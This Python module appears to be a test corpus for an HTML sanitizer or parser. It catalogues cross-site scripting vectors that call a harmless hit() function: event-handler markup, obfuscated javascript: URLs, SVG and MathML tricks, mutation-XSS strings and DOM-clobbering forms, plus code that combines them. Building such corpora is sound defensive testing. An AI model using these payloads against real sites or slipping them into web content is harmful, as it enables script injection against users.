"""Markup that runs, or that would once it is read again: single pages, and templates × carriers."""

from __future__ import annotations

import html
import itertools

import chaffinch

RAW = {
    "script": "<script>hit()</script>",
    "script from data": "<script src='data:text/javascript,hit()'></script>",
    "image": "<img src=x onerror=hit()>",
    "image without quotes": "<img/src/onerror=hit()>",
    "image of a set": "<img srcset='x 1x' onerror=hit()>",
    "picture": "<picture><source srcset=x><img src=x onerror=hit()></picture>",
    "svg": "<svg/onload=hit()>",
    "body": "<body onload=hit()>a",
    "page shown": "<body onpageshow=hit()>a",
    "frame of a source": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "frame of a script": "<iframe src='javascript:parent.hit()'></iframe>",
    "frame loaded": "<iframe onload=hit()></iframe>",
    "object": "<object data=x onerror=hit()></object>",
    "link": "<a href='javascript:hit()'>a</a>",
    "link in capitals": "<a href='JaVaScRiPt:hit()'>a</a>",
    "link with a tab": "<a href='java&Tab;script:hit()'>a</a>",
    "link with a line": "<a href='java\nscript:hit()'>a</a>",
    "link with a control": "<a href='&#1;javascript:hit()'>a</a>",
    "link by entities": "<a href='&#106;avascript&colon;hit()'>a</a>",
    "link behind blanks": "<a href=' &#9; javascript:hit()'>a</a>",
    "link with a comment": "<a href='javascript://e.org/%0ahit()'>a</a>",
    "area": "<map name=m><area href='javascript:hit()' shape=default></map><img usemap=#m src=x>",
    "form": "<form action='javascript:hit()'><button>a</button></form>",
    "button": "<form><button formaction='javascript:hit()'>a</button></form>",
    "image button": "<form><input type=image src=x formaction='javascript:hit()'></form>",
    "image button without image": "<input type=image src=x onerror=hit()>",
    "sent": "<form onsubmit='hit();return false'><button>a</button></form>",
    "link in svg": "<svg><a xlink:href='javascript:hit()'><text y=20>a</text></a></svg>",
    "newer link in svg": "<svg><a href='javascript:hit()'><text y=20>a</text></a></svg>",
    "animate": (
        "<svg><a><animate attributeName=href values=javascript:hit() /><text y=20>a</text></a>"
    ),
    "set": "<svg><a><set attributeName=href to=javascript:hit() /><text y=20>a</text></a></svg>",
    "animate by a name": (
        "<svg><animate href=#l attributeName=href values=javascript:hit() /><a id=l><text y=20>a"
        "</text></a></svg>"
    ),
    "animate begins": "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "set begins": "<svg><set onbegin=hit() attributeName=x dur=1s></svg>",
    "transform begins": "<svg><animatetransform onbegin=hit() attributeName=transform dur=1s>",
    "motion begins": "<svg><animatemotion onbegin=hit() dur=1s path='M0 0 L1 1'></svg>",
    "script in svg": "<svg><script>hit()</script></svg>",
    "script of data in svg": "<svg><script href='data:text/javascript,hit()'></script></svg>",
    "image in svg": "<svg><image href=x onerror=hit()></svg>",
    "foreign object": "<svg><foreignobject><img src=x onerror=hit()></foreignobject></svg>",
    "description": "<svg><desc><img src=x onerror=hit()></desc></svg>",
    "title in svg": "<svg><title><img src=x onerror=hit()></title></svg>",
    "text of math": "<math><mtext><img src=x onerror=hit()></mtext></math>",
    "link in math": "<math><mtext><a href='javascript:hit()'>a</a></mtext></math>",
    "annotation": (
        "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>"
    ),
    "details": "<details open ontoggle=hit()>a</details>",
    "video": "<video src=x onerror=hit()></video>",
    "audio": "<audio src=x onerror=hit()></audio>",
    "source": "<video><source src=x onerror=hit()></video>",
    "style": "<style onload=hit()>p{}</style>",
    "style sheet": "<link rel=stylesheet href=x onerror=hit()>",
    "animation": (
        "<style>@keyframes k{from{color:red}}</style><p style='animation:k 1s'"
        " onanimationstart=hit()>a</p>"
    ),
    "focus": "<input autofocus onfocus=hit()>",
    "focus by a number": "<p tabindex=1 onfocus=hit()>a</p>",
    "focus of a list": "<select autofocus onfocus=hit()><option>a</select>",
    "focus of a text": "<textarea autofocus onfocus=hit()>a</textarea>",
    "click": "<p onclick=hit()>a</p>",
    "click in capitals": "<p ONCLICK=hit()>a</p>",
    "popover": "<button popovertarget=p>a</button><p popover id=p onbeforetoggle=hit()>b</p>",
    "shadow": ("<div><template shadowrootmode=open><img src=x onerror=hit()></template>a</div>"),
    "no script": "<noscript><p title='</noscript><img src=x onerror=hit()>'>a</noscript>",
    "comment": "<!--><img src=x onerror=hit()>-->",
    "comment that ends badly": "<!-- a --!><img src=x onerror=hit()>",
    "text area": "<textarea><p title='</textarea><img src=x onerror=hit()>'>",
    "title": "<title><p title='</title><img src=x onerror=hit()>'>",
    "list": "<select><option>a</select><img src=x onerror=hit()>",
    "table": "<table><img src=x onerror=hit()><tr><td>a</table>",
    "unknown": "<my-x onclick=hit()>a</my-x>",
}
"""Pages that run."""

MUTATED = {
    "animate under flattening": (
        "<div>" * 508 + "<svg><a><desc><p><animate attributeName=href values=javascript:hit()></p>"
        "</desc><text y=20>a</text></a></svg>"
    ),
    "set under flattening": (
        "<div>" * 507 + "<svg><a><foreignobject><p><set attributeName=href to=javascript:hit()>"
        "</p></foreignobject><text y=20>a</text></a></svg>"
    ),
    "mglyph": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x"
        " onerror=hit()&gt;'>"
    ),
    "malignmark": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()></style>"
    ),
    "style in svg": "<svg></p><style><a title='</style><img src=x onerror=hit()>'>",
    "xmp": "<svg><xmp><a title='</xmp><img src=x onerror=hit()>'></a></xmp></svg>",
    "text area in svg": (
        "<svg><textarea><a title='</textarea><img src=x onerror=hit()>'></a></textarea></svg>"
    ),
    "plaintext": "<svg><plaintext><a title='<img src=x onerror=hit()>'></a></svg>",
    "data as a link": "<a href='data:image/svg+xml,<svg onload=hit()>'>a</a>",
    "data as an action": (
        "<form action='data:image/svg+xml,<svg onload=hit()>'><button>a</button></form>"
    ),
    "embed": "<embed src='javascript:hit()'>",
    "marquee": "<marquee onstart=hit()>a</marquee>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:hit()'><p>a",
    "base": "<base href='javascript:/a/'><a href='//%0ahit()'>a</a>",
    "CDATA": "<svg><![CDATA[<img src=x onerror=hit()>]]></svg>",
    "backticks": "<p title='``onclick=hit()'>a</p>",
}
"""Pages that would run only when an output of them is read once more, or in other browsers."""

HIT = "<img src=x onerror=hit()>"

CARRIERS = {
    "in a table": "<table>{}<tr><td>a</table>",
    "in a cell": "<table><tr><td>{}</table>",
    "in a caption": "<table><caption>{}</caption><tr><td>a</table>",
    "in a foreign object": "<svg><foreignobject>{}</foreignobject></svg>",
    "in a description": "<svg><desc>{}</desc></svg>",
    "in a title of svg": "<svg><title>{}</title></svg>",
    "in the text of math": "<math><mtext>{}</mtext></math>",
    "in an identifier": "<math><mi>{}</mi></math>",
    "in an operator": "<math><mo>{}</mo></math>",
    "in a number": "<math><mn>{}</mn></math>",
    "in a string": "<math><ms>{}</ms></math>",
    "in an annotation": (
        "<math><annotation-xml encoding='Application/xhtml+XML'>{}</annotation-xml></math>"
    ),
    "after a paragraph in svg": "<svg></p>{}",
    "after a break in math": "<math></br>{}",
    "behind a wrong end": "<svg><g></div></svg>{}",
    "in a summary": "<details open><summary>{}</summary>a</details>",
    "in a term": "<dl><dt>{}<dd>a</dl>",
    "in a ruby text": "<ruby>a<rt>{}</rt></ruby>",
    "in a legend": "<fieldset><legend>{}</legend></fieldset>",
    "in formatting": "<b><p><i>{}</b></p></i>",
    "in a figure": "<figure><figcaption>{}</figcaption></figure>",
    "in an article": "<article><header><h1>a {}</h1></header><p>b</article>",
    "in an object": "<object>{}</object>",
    "in a shadow tree": "<div><template shadowrootmode=open>{}</template>a</div>",
    "in an unknown element": "<x-a><x-b>{}</x-b></x-a>",
    "in a video": "<video>{}</video>",
    "in a canvas": "<canvas>{}</canvas>",
    "in preformatted text": "<pre>\n{}</pre>",
    "after a comment": "<!--a-->{}<!-- -->",
    "after a false comment": "<!-->{}",
    "after a bogus comment": "<?a b>{}</ a><!a>",
    "after an ended style": "<style></style >{}",
    "after an ended title": "<title></title\n>{}",
    "after an ended area": "<textarea></textarea/>{}",
}
"""Where markup stands → what is around it; the markup runs there."""

BODIES = {
    "image": HIT,
    "image in capitals": "<IMG SRC=x ONERROR=hit()>",
    "image with slashes": "<img/src=x/ onerror=hit()//>",
    "image with feeds": "<img\x0csrc=x\x0conerror=hit()\x0c>",
    "image with lines": "<img\nsrc=x\nonerror\n=\nhit()\n>",
    "image by entities": "<img src=x onerror='&#104;it&lpar;&#x29;'>",
    "image behind attributes": "<img ='a' \"b <c /d=1 src=x onerror=hit()>",
    "image with two sources": "<img src=x src=data:, onerror=hit() onerror=a>",
    "image in backticks": "<img src=`x` onerror=hit() alt=``>",
    "picture": "<picture><source><img src=x onerror=hit()></picture>",
    "details": "<details open ontoggle=hit()>a</details>",
    "input": "<input type=image src=x onerror=hit()>",
    "focus": "<span tabindex=0 onfocus=hit()>a</span>",
    "svg": "<svg><image href=x onerror=hit() /></svg>",
    "begin": "<svg><set attributeName=x onbegin=hit() dur=1s /></svg>",
    "click": "<button onclick=hit()>a</button>",
}

SPELLINGS = {
    "plain": "javascript:hit()",
    "mixed": "jAvAsCrIpT:hit()",
    "blanks": "&#32;&#13;&#12;javascript:hit()",
    "first control": "&#1;javascript:hit()",
    "last control": "&#31;javascript:hit()",
    "tab": "java&#9;script:hit()",
    "line feed": "java&#10;script:hit()",
    "return": "java&#13;script:hit()",
    "tab before the colon": "javascript&#9;:hit()",
    "many": "j&Tab;a&NewLine;v&#9;a&#10;s&#13;c&Tab;r&Tab;i&Tab;p&Tab;t&colon;hit()",
    "numbers": "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58hit()",
    "zeros": "&#0000106;&#x00061;vascript&#x0003a;hit()",
    "comment": "javascript://e.org/%0ahit()",
    "comment closed": "javascript:/*-->*/hit()",
    "percent": "javascript:%68it%28%29",
    "line separator": "javascript://&#8232;hit()",
    "object": "javascript:[hit()]&&void 0",
}
"""How an address of a script is spelled, in an attribute without quotes but for entities."""

ADDRESSES = {
    "link": '<a href="{}">a</a>',
    "link in svg": '<svg><a xlink:href="{}"><text y=20>a</text></a></svg>',
    "newer link in svg": '<svg><a href="{}"><text y=20>a</text></a></svg>',
    "area": '<map name=m><area href="{}" shape=default></map><img usemap=#m src=x>',
    "action": '<form action="{}"><button>a</button></form>',
    "form action": '<form><button formaction="{}">a</button></form>',
    "form action of an input": '<form><input type=submit formaction="{}" value=a></form>',
    "frame": '<iframe src="{}"></iframe>',
}

CLOBBERS = {
    name: f"<form id={name} name={name}><input name={name} id=attributes><input name=childNodes>"
    f"<img name={name} src=x onerror=hit()><input name=nodeName></form><a id={name} name=href>a</a>"
    for name in (
        "body", "cookie", "domain", "documentElement", "getElementById", "querySelector",
        "createElement", "currentScript", "location", "parentNode", "firstChild", "attributes",
        "innerHTML", "tagName", "nodeType", "ownerDocument", "constructor", "__proto__",
    )
}  # fmt: skip

ROOTS = {
    "svg": "<svg>{}",
    "math": "<math>{}",
    "svg left": "<svg></p>{}",
    "math left": "<math></br>{}",
    "description": "<svg><desc>{}",
    "text of math": "<math><mtext>{}",
    "glyph": "<math><mtext><table><mglyph>{}",
    "mark": "<form><math><mtext></form><form><mglyph>{}",
    "template": "<template><svg>{}",
    "table in svg": "<svg><desc><table><svg>{}",
    "annotation": "<math><annotation-xml encoding=text/html><svg>{}",
    "select": "<select><svg>{}",
}
SWALLOWERS = (
    "style xmp noembed noframes iframe noscript textarea title plaintext script select math "
    "foreignobject".split()
)
MUTATIONS = {
    f"{root}, {name}": around.replace("{}", f"<{name}><a title='</{name}>{HIT}'>b")
    for (root, around), name in itertools.product(ROOTS.items(), SWALLOWERS)
} | {
    f"{root}, comment": around.replace("{}", f"<style><!--</style><a title='--&gt;{HIT}'>b")
    for root, around in ROOTS.items()
}
"""Attributes and comments that turn to markup where another reader takes them for text, or back."""


NOT_SHOWN = {
    ("focus", "in a description"),
    ("focus", "in a title of svg"),
    ("click", "in an object"),
}


def running():
    """Return name → page, of pages that run as they are."""
    found = {f"raw: {name}": own for name, own in RAW.items()}
    found |= {f"{body}, {carrier}": around.replace("{}", own)
              for (n, (body, own)), (m, (carrier, around))
              in itertools.product(enumerate(BODIES.items()), enumerate(CARRIERS.items()))
              if not n or ((n + m) % 4 == 0 and (body, carrier) not in NOT_SHOWN)}  # fmt: skip
    found |= {f"{kind}, {spelled}": around.replace("{}", own)
              for (spelled, own), (kind, around)
              in itertools.product(SPELLINGS.items(), ADDRESSES.items())}  # fmt: skip
    return found | {f"clobbers {name}": own for name, own in CLOBBERS.items()}


def mutating():
    """Return name → page, of pages that may run once an output is read by another reader."""
    return {f"mutated: {name}": own for name, own in (MUTATED | MUTATIONS).items()}


def escaped(source):
    """Return markup as the text of a page."""
    return html.escape(source, quote=True)


def packed(vectors, together):
    """Return pages (markup of a body) that hold some vectors each, none of which swallows the next.

    Those that do stand alone.

    Args:
        vectors: name → markup.
        together: how many a page holds at most.
    """
    alone, others = [], []
    for own in vectors.values():
        tree = chaffinch.parse(f"<!DOCTYPE html><body><p>words</p>{own}<hr id=end>")
        ends = [row for row, value in tree.having("id") if value == "end"]
        is_over = [tree.name(int(tree.parent[row])) for row in ends] == ["body"]
        (others if is_over else alone).append(own)
    groups = [others[start : start + together] for start in range(0, len(others), together)]
    return ["<hr>".join(group) for group in groups] + alone
